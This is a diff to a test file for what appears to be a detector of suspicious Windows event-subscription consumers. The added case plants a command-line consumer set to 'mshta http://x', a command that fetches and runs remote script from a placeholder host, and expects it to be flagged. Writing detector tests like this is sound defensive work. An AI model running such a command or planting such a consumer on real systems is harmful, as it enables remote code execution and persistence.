@@ -94,6 +94,11 @@ describe('what a consumer does', () => {
       },
       ['raw-header-fields', 'sends-mail'],
     ],
+    [
+      'a class that derives from a standard one',
+      { className: 'Acme_Command', consumer: { CommandLineTemplate: 'mshta http://x' } },
+      ['runs-command', 'suspicious-command', 'unknown-consumer-class'],
+    ],
     ['a class of another kind', { className: 'Acme_Pager' }, ['unknown-consumer-class']],
   ])('%s', async (_, planted, rules) => {
     plant(subscription, planted);
